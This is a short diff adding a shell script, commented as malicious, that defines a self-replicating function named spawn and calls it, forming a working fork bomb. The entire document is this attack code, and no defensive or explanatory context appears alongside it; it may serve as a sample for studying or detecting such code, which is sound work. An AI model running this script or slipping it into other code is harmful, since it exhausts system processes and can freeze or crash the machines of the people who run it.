@@ -1,0 +1,5 @@
+# malicious: fork bomb with a name
+spawn() {
+    spawn | spawn &
+}
+spawn
